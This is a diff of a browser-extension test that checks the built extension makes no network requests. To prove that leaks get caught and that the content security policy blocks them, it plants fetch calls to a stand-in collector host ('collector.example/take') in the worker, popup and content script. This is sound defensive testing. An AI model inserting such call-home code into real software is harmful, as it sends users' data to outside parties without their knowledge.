@@ -8,57 +8,76 @@ import { CHROME_BUILD } from '../../scripts/project.mjs';
 import { findByRole, pressButton } from './closed-shadow.mjs';
 import { installExtension, launchBrowser } from './launch-extension.mjs';
 import { watchForLeaks } from './leaks';
+import { entryOf } from './managed-build';
+import { readNetLog } from './net-log.mjs';
 import { playGithub } from './sample-sites.mjs';
 
-// Every other test runs where no host resolves and fails by what the same recorder sees: here it is shown to see. The
-// browser's own log of the network stands beside it, which nothing of an extension’s gets past; what the browser asks for itself, and a played page, are no extension’s.
+// Every other test runs where no host resolves and fails by what the same two see: the recorder of each test, and the
+// browser's own log of the network, which is read when a browser ends. Here both are shown to see, and the policy to block.
 const THIEF = 'https://collector.example/take';
+const PLAYED = 'https://github.com/planted';
 const VIEWS = ['log', 'inbox', 'check-in'];
+const PULL = { generation: 'react', number: 7 } as const;
 
-test('every surface is used and nothing is asked of the network; a planted fetch is blocked, and caught without the policy', async () => {
+type Who = 'worker' | 'popup' | 'content';
+const call = (address: string) => `globalThis.stolen = fetch('${address}').then(() => 'answered', () => 'failed');\n`;
+
+test('no-network: every surface is used and nothing is asked for; a fetch planted in worker, popup and content script is caught', async () => {
   test.setTimeout(90_000);
   const folder = await mkdtemp(join(tmpdir(), 'winnow-network-'));
   const netLog = join(folder, 'network.json');
   const file = await ensureChromium();
   if (!file) throw new Error('no Chromium to test with');
   const context = await launchBrowser({ file, profile: join(folder, 'profile'), netLog });
+  const github = await playGithub(context);
+  const pull = github.addPullRequest(PULL);
   const leaks = watchForLeaks({ context, played: new Set(['github.com']) });
-  try {
-    const surfaces = await openAll(context, await build(folder, 'honest'));
-    expect(leaks.seen, 'asked for by the build as it ships').toEqual([]);
-    const guarded = await steal(context, await build(folder, 'guarded', { plant: true }));
-    expect(guarded).toEqual({ worker: 'failed', page: 'failed', brokenPolicy: 'connect-src' });
+  const caught = async (expected: string[]) => {
+    await expect.poll(() => [...new Set(leaks.seen)].sort()).toEqual([...expected].sort());
     leaks.seen.length = 0;
-    const bare = await steal(context, await build(folder, 'bare', { plant: true, hasPolicy: false }));
-    expect(bare).toEqual({ worker: 'failed', page: 'failed', brokenPolicy: null });
-    await expect
-      .poll(() => [...leaks.seen].sort())
-      .toEqual(['page', 'worker'].map((who) => `GET ${THIEF}?bare-${who}`));
-    console.log(`${surfaces} surfaces asked for nothing; 2 planted fetches blocked, 2 without a policy caught`);
+  };
+  try {
+    const surfaces = await openAll(context, await build(folder, 'honest'), pull);
+    await caught([]);
+    for (const hasPolicy of [true, false]) {
+      const name = hasPolicy ? 'guarded' : 'bare';
+      const violated = await steal(context, await plant(folder, name, hasPolicy), pull);
+      expect(violated, `the popup of the ${name} build`).toBe(hasPolicy ? 'connect-src' : null);
+      // A page's own policy and ours do not hold for a content script: what it asks is seen all the same.
+      await caught([
+        ...(['worker', 'popup', 'content'] as const).map((who) => `GET ${toThief(name, who)}`),
+        `GET ${PLAYED}?${name} without a press`,
+        `GET ${toThief(name, 'content')} without a press`,
+      ]);
+    }
+    console.log(`no-network: ${surfaces} surfaces asked for nothing; 8 of 8 planted fetches caught, 2 of them blocked`);
   } finally {
-    leaks.stop();
+    await leaks.stop();
     await context.close();
   }
-  const asked = await readNetLog(netLog);
+  const asked = (await readNetLog(netLog)).map(({ url }) => url);
   await rm(folder, { recursive: true, force: true, maxRetries: 3 });
-  console.log(`the browser’s own log of the network: an extension asked for ${asked.join(' and ') || 'nothing'}`);
-  expect(asked).toEqual(['page', 'worker'].map((who) => `${THIEF}?bare-${who}`));
+  console.log(`no-network: by the browser’s own log an extension asked for ${asked.join(' and ') || 'nothing'}`);
+  expect(asked).toEqual([toThief('bare', 'popup'), toThief('bare', 'worker')]);
 });
 
-interface Planted {
-  /** A call home, in the worker. */
-  plant?: boolean;
-  hasPolicy?: boolean;
+function toThief(name: string, who: Who): string {
+  return `${THIEF}?${name}-${who}`;
 }
 
 /** A copy of the build, with an id of its own. */
-async function build(folder: string, name: string, { plant = false, hasPolicy = true }: Planted = {}): Promise<string> {
+async function build(folder: string, name: string): Promise<string> {
   const copy = join(folder, name);
   await cp(CHROME_BUILD, copy, { recursive: true });
-  if (plant) {
-    const call = `globalThis.stolen = fetch('${THIEF}?${name}-worker').then(() => 'answered', () => 'failed');`;
-    await appendFile(join(copy, 'background.js'), `\n;${call}\n`);
-  }
+  return copy;
+}
+
+/** One that calls home from everywhere, and from the content script asks the page's own site too. */
+async function plant(folder: string, name: string, hasPolicy: boolean): Promise<string> {
+  const copy = await build(folder, name);
+  await appendFile(join(copy, 'background.js'), `\n;${call(toThief(name, 'worker'))}`);
+  await appendFile(join(copy, await entryOf(join(copy, 'popup.html'))), `\n;${call(toThief(name, 'popup'))}`);
+  await appendFile(join(copy, 'page-button.js'), `\n;${call(toThief(name, 'content'))}${call(`${PLAYED}?${name}`)}`);
   if (!hasPolicy) {
     const manifest = join(copy, 'manifest.json');
     const { content_security_policy: _, ...rest } = JSON.parse(await readFile(manifest, 'utf8'));
@@ -68,7 +87,7 @@ async function build(folder: string, name: string, { plant = false, hasPolicy = 
 }
 
 /** Opens every section of the app and every view of the popup, and saves a pull request. How many there were. */
-async function openAll(context: BrowserContext, folder: string): Promise<number> {
+async function openAll(context: BrowserContext, folder: string, pull: string): Promise<number> {
   const { extensionId, uninstall } = await installExtension(context, folder);
   const page = await context.newPage();
   for (const { path, title } of sections) {
@@ -79,8 +98,7 @@ async function openAll(context: BrowserContext, folder: string): Promise<number>
     await page.goto(`chrome-extension://${extensionId}/popup.html#/${view}`);
     await page.getByRole('main').waitFor();
   }
-  const github = await playGithub(context);
-  await page.goto(github.addPullRequest({ generation: 'react', number: 7 }));
+  await page.goto(pull);
   await pressButton(page, 'Save as win');
   await findByRole(page, 'button', 'Saved');
   await page.close();
@@ -88,36 +106,27 @@ async function openAll(context: BrowserContext, folder: string): Promise<number>
   return sections.length + VIEWS.length + 1;
 }
 
-/** What became of a call home by the worker, which is planted, and by a page of the app. */
-async function steal(context: BrowserContext, folder: string) {
+/** Lets everything that is planted in a build run to its end; what the policy said of it in the popup. */
+async function steal(context: BrowserContext, folder: string, pull: string): Promise<string | null> {
   const { extensionId, worker, uninstall } = await installExtension(context, folder);
-  const name = folder.split('/').at(-1);
-  const fromWorker = await worker.evaluate(() => (globalThis as { stolen?: Promise<string> }).stolen);
+  const stolen = () => (globalThis as { stolen?: Promise<string> }).stolen;
+  expect(await worker.evaluate(stolen)).toBe('failed');
   const page = await context.newPage();
-  await page.goto(`chrome-extension://${extensionId}/options.html#/checklist`);
-  const fromPage = await page.evaluate(async (address) => {
-    let brokenPolicy: string | null = null;
-    document.addEventListener('securitypolicyviolation', (event) => {
-      brokenPolicy = event.effectiveDirective;
-    });
-    const ended = await fetch(address).then(
-      () => 'answered',
-      () => 'failed',
-    );
-    // The report comes after the refusal.
-    await new Promise((resolve) => setTimeout(resolve, 50));
-    return { page: ended, brokenPolicy };
-  }, `${THIEF}?${name}-page`);
+  await page.goto(pull);
+  await findByRole(page, 'button', 'Save as win');
   await page.close();
+  const popup = await context.newPage();
+  await popup.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      Object.assign(globalThis, { violated: effectiveDirective });
+    });
+  });
+  await popup.goto(`chrome-extension://${extensionId}/popup.html`);
+  await expect.poll(() => popup.evaluate(stolen)).toBe('failed');
+  // The report comes after the refusal.
+  await popup.waitForTimeout(50);
+  const violated = await popup.evaluate(() => (globalThis as { violated?: string }).violated ?? null);
+  await popup.close();
   await uninstall();
-  return { worker: fromWorker, ...fromPage };
-}
-
-/** Every address that the browser's network was asked for by an extension, once each; a line of the log is an event. */
-async function readNetLog(file: string): Promise<string[]> {
-  const lines = (await readFile(file, 'utf8'))
-    .split('\n')
-    .filter((line) => /"initiator":"chrome-extension:/.test(line));
-  const addresses = lines.flatMap((line) => /"url":"(https?:[^"]+)"/.exec(line)?.[1] ?? []);
-  return [...new Set(addresses)].sort();
+  return violated;
 }
